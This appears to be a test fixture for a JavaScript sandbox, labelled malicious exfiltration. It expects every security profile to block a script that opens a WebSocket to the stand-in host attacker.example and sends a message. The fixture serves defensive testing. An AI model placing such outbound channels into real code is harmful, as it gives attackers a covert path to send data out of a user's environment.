/*---
id: ex-xhr-ws-02-websocket
description: "Opens a WebSocket to an attacker's server, a long-lived channel that must be absent from every profile."
kind: malicious
category: exfiltration
technique: EX-xhr-ws
variant: plain
references:
  - "isolated-vm FAQ"
  - "Deno permissions"
  - "workerd capability bindings"
expect:
  ultra-secure: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
  high-security: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
  tenant-isolated: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
---*/
const ws = new WebSocket('wss://attacker.example/socket');
ws.onopen = () => ws.send('hello');
return 'opened';
